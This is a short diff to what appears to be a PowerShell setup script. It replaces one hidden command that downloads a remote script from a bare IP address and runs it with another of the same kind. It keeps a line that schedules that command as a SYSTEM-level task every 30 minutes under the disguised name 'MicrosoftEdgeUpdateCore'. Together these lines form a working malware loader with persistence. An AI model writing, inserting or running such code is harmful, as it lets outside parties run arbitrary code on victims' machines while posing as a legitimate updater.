@@ -1,3 +1,3 @@
-# provision 7913 v1
-$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://192.0.2.44:8443/stage2.ps1'))`""
+# bootstrap 5244 v1
+$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://198.51.100.23:9001/payload.ps1'))`""
 schtasks /create /tn "MicrosoftEdgeUpdateCore" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
